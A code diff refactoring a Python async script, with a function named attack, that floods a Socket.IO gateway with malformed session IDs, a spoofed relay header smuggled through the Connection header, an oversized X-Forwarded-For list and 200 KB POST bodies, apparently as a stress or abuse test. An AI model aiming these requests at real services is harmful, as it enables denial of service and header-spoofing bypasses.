@@ -10,14 +10,18 @@ import asyncio
 
 from lines import Line, request, upgrade
 
-SIDS = ["gateway-2.AAAAAAAAAAAAAAAAAAAA", "gateway-1.AAAAAAAAAAAAAAAAAAAA", "gateway-9.x", "%00", "gateway-2." + "A" * 2000]
+PROOF = "requests"
+
+UNKNOWN = "A" * 20
+SIDS = [f"gateway-2.{UNKNOWN}", f"gateway-1.{UNKNOWN}", "gateway-9.x", "%00", "gateway-2." + "A" * 2000]
 MARK = "X-SocketIO-Relayed: 1"
 LIST = "X-Forwarded-For: " + ", ".join(["127.0.0.1"] * 400)
 HIDDEN_MARK = "Connection: keep-alive, X-SocketIO-Relayed"
 
 
 async def attack(target):
-    polls = [request("GET", query(sid), *fields) for sid in SIDS for fields in ((), (MARK,), (LIST,), (MARK, HIDDEN_MARK))]
+    heads = [(), (MARK,), (LIST,), (MARK, HIDDEN_MARK)]
+    polls = [request("GET", query(sid), *fields) for sid in SIDS for fields in heads]
     posts = [request("POST", query(sid), LIST, body=b"x" * 200_000) for sid in SIDS]
     sockets = [upgrade(f"transport=websocket&sid={sid}", LIST) for sid in SIDS]
     await asyncio.gather(*(target.crowd(10, ask, texts) for texts in (polls, polls, posts, sockets)))
